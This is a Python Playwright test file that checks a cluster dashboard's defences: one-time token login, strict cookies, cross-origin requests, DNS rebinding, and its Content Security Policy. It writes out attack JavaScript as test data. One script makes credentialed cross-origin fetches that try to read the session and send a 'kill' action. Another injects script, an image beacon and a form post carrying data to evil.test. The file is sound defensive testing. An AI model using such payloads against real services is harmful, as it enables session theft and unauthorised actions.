"""Who gets into the dashboard, and what pages of other origins get: nothing.

What is answered to headers that a browser does not let pages write is in tests/unit/dashboard.
"""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
import pytest_asyncio
from aiohttp import web
from boards import Shown, StoryBoard, shown
from browsing import Watchman
from herdstory import HerdStory
from playwright.async_api import Browser, BrowserContext, Page

pytestmark = pytest.mark.asyncio(loop_scope="module")

ATTACKS = """async (target) => {
  const got = [];
  const attempt = async (what, act) => {
    try { got.push([what, await act()]); } catch (error) { got.push([what, "refused"]); }
  };
  const kill = JSON.stringify({action: "kill", node: "node-0"});
  const all = {credentials: "include"};
  await attempt("read", async () => (await fetch(target + "/api/state", all)).text());
  await attempt("secret", async () => (await fetch(target + "/api/session", all)).text());
  await attempt("act", async () =>
    (await fetch(target + "/api/action", {...all, method: "POST", body: kill})).text());
  await attempt("act blindly", async () => (await fetch(target + "/api/action",
    {...all, method: "POST", mode: "no-cors", body: kill})).text());
  await attempt("act with the header", async () => (await fetch(target + "/api/action",
    {...all, method: "POST", headers: {"X-Kubeherd-Csrf": "guess"}, body: kill})).text());
  await attempt("follow", () => new Promise((done, failed) => {
    const source = new EventSource(target + "/api/stream", {withCredentials: true});
    source.onerror = () => { source.close(); failed(); };
    source.addEventListener("state", (event) => { source.close(); done(event.data); });
  }));
  await attempt("run its script", () => new Promise((done, failed) => {
    const script = document.createElement("script");
    script.onload = () => done("loaded");
    script.onerror = failed;
    script.src = target + "/api/state";
    document.head.append(script);
  }));
  return got.filter(([what, found]) => found !== "refused" && found !== "");
}"""


FRAME = """(target) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.onload = done;
  frame.src = target;
  document.body.append(frame);
})"""


@pytest.fixture(scope="module")
def board() -> StoryBoard:
    story = HerdStory(3)
    story.settle()
    return StoryBoard(story.records)


@pytest_asyncio.fixture(loop_scope="module")
async def dash(board: StoryBoard) -> AsyncIterator[Shown]:
    async with shown(board) as serving:
        yield serving


@asynccontextmanager
async def another_origin() -> AsyncIterator[str]:
    """A page at another port of this machine: to browsers the same site, and another origin."""

    async def page(_request: web.Request) -> web.Response:
        return web.Response(text="<!doctype html><title>evil</title>", content_type="text/html")

    runner = web.AppRunner(web.Application())
    runner.app.router.add_get("/", page)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    finally:
        await runner.cleanup()


async def test_the_token_lets_one_browser_in_once(
    dash: Shown, context: BrowserContext, browser: Browser, page: Page
):
    await page.goto(dash.url)
    assert page.url.partition("#")[0] == f"{dash.origin}/"
    own = f"-{dash.port}"
    (cookie,) = [one for one in await context.cookies() if one["name"].endswith(own)]
    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
    assert await page.evaluate("document.cookie") == ""
    second = await browser.new_context()
    try:
        late = await second.new_page()
        answer = await late.goto(dash.url)
        assert answer is not None
        assert answer.status == 401
        assert "kubeherd dashboard" in await late.inner_text("body")
        assert await second.cookies() == []
    finally:
        await second.close()


async def test_another_origin_gets_nothing(
    dash: Shown, board: StoryBoard, page: Page, context: BrowserContext
):
    """Though the browser sends it the cookie: ports do not count for SameSite."""
    await page.goto(dash.url)
    evil = await context.new_page()
    async with another_origin() as origin:
        await evil.goto(origin)
        assert await evil.evaluate(ATTACKS, dash.origin) == []
        await evil.evaluate(FRAME, dash.origin)
        await evil.close()
    assert board.acted == []


async def test_a_name_that_is_bound_to_this_machine_gets_nothing(
    dash: Shown, page: Page, context: BrowserContext
):
    """DNS rebinding: to the browser evil.test is here, and nothing of it another origin."""
    evil = await context.new_page()
    for path in ("/", "/api/state", dash.url.removeprefix(dash.origin)):
        answer = await evil.goto(f"http://evil.test:{dash.port}{path}")
        assert answer is not None
        assert answer.status == 403
        assert await context.cookies(f"http://evil.test:{dash.port}") == []
    await evil.close()
    answer = await page.goto(dash.url)  # nobody has used the token up
    assert answer is not None
    assert answer.status == 200


async def test_what_the_policy_forbids_does_not_run(dash: Shown, page: Page, watchman: Watchman):
    """The last wall: even script that got into the page would not run, nor send anything away."""
    await page.goto(dash.url)
    await page.evaluate(
        """() => {
          const inline = document.createElement("script");
          inline.textContent = "window.harmed = 1";
          const image = document.createElement("img");
          image.src = "http://evil.test/?stolen";
          const form = document.createElement("form");
          form.action = "http://evil.test/";
          document.body.append(inline, image, form);
          form.submit();
        }"""
    )
    await page.evaluate("fetch('http://evil.test/').catch(() => 0)")
    assert await page.evaluate("window.harmed") is None
    refused = watchman.expected(lambda noted: "Security Policy" in noted or "evil.test" in noted)
    for directive in ("script-src", "img-src", "form-action", "connect-src"):
        assert any(directive in one for one in refused), directive
